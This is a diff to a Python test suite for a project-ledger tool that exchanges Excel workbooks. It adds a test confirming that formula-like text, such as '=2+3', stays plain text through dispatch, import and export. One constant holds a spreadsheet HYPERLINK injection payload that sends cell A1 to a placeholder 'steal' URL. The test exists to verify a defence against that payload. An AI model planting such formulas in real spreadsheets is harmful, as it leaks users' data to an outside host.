@@ -36,10 +36,12 @@ def column(sheet: Any, heading: str) -> int:
 def fill(root: Path, unit: str, out: Path, values: dict[str, Any], unprotect: dict[str, Any] | None = None) -> Path:
     """The unit's sheet with its first project's input cells filled (and, removing the protection, some
     locked cells changed)."""
+    from xmtj.documents.xlsx import put
+
     book = sheet_of(root, unit)
     sheet = book["调度任务"]
     for heading, value in values.items():
-        sheet.cell(4, column(sheet, heading), value)
+        put(sheet, 4, column(sheet, heading), value)  # typed as text: "=2+3" stays "=2+3"
     if unprotect:
         sheet.protection.sheet = False
         for heading, value in unprotect.items():
@@ -205,3 +207,32 @@ def test_a_ledger_without_units_dispatches_nothing(ledger: Path, run: Run) -> No
     result = run("dispatch", "--month", "2022-01", "--due", "2022-02-05", "--future", ledger=ledger)
     assert result.exit_code == 1 and "没有可下发的调度表" in result.stderr
     assert git(ledger, "rev-parse", "HEAD") == before
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1,"点此查看")'
+
+
+def test_text_that_looks_like_a_formula_stays_text_out_and_back(small_git: Path, run: Run, tmp_path: Path) -> None:
+    """A project named like a formula, a 形象进度 of =2+3: text in every workbook, and the dispatch sheet
+    still comes back (its locked name compared as text)."""
+    import openpyxl
+
+    p1 = small_git / "data/projects/P1.yaml"
+    p1.write_text(p1.read_text(encoding="utf-8").replace("name: 甲化工新材料项目", f"name: '{FORMULA}'"), "utf-8")
+    git(small_git, "commit", "-qam", "名称")
+    assert run("dispatch", "--month", "2021-12", "--unit", JIA, "--due", "2022-01-05", ledger=small_git).exit_code == 0
+    book = openpyxl.load_workbook(small_git / "dispatch/2021-12" / f"{JIA}.xlsx")
+    cell = book["调度任务"].cell(4, column(book["调度任务"], "项目名称"))
+    assert cell.value == FORMULA and cell.data_type != "f"
+    returned = fill(small_git, JIA, tmp_path / "甲.xlsx", {"当月完成投资（万元）": 120, "形象进度": "=2+3"})
+    result = run("import", "progress", str(returned), "--month", "2021-12", ledger=small_git)
+    assert result.exit_code == 0, result.output
+    assert "text: =2+3" in p1.read_text(encoding="utf-8") or "text: '=2+3'" in p1.read_text(encoding="utf-8")
+    for args in (("status", "--format", "xlsx"), ("issue", "list", "--format", "xlsx")):
+        out = tmp_path / f"{args[0]}.xlsx"
+        assert run(*args, "--as-of", "2021-12-31", "--out", str(out), ledger=small_git).exit_code == 0
+        cells = [c for ws in openpyxl.load_workbook(out) for row in ws.iter_rows() for c in row]
+        assert not [c for c in cells if c.data_type == "f"]
+    assert FORMULA in {
+        c.value for ws in openpyxl.load_workbook(tmp_path / "status.xlsx") for row in ws.iter_rows() for c in row
+    }
